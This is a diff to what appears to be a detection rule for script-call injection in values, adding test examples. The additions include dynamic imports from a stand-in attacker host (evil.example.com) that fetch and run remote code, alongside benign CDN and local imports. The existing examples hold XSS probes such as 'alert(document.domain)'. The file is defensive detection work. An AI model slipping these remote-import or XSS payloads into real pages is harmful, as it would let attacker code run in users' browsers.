@@ -28,6 +28,7 @@ export const scriptCall: ValueRule = {
   trigger: { anchor: mayHoldScript, literals: [scriptWords] },
   judge: judgeScriptCall,
   examples: [
+    ...['import("https://evil.example.com/a.js")', 'await import(`https://evil.example.com`)'],
     '0&&Alert(1)||alert(1)',
     'alert(document.domain)',
     "document?.write?.('<h1>a</h1>')",
@@ -59,6 +60,9 @@ export const scriptCall: ValueRule = {
     'options?.onChange?.(event?.target?.value)',
     'setTimeout(() => setCount(count + 1), 1000)',
     'alert(1) meaning',
+    "const { h } = await import('https://cdn.example.com/h.js');",
+    'Use import("https://cdn.example.com/h.js") in place of a tag',
+    "import('./page.js')",
     'withStyles(prompt)(Component)',
     'new Map(alerts.map((alert) => [alert.id, alert]))',
     'const Button = styled.button`color: ${(p) => p.color};`',
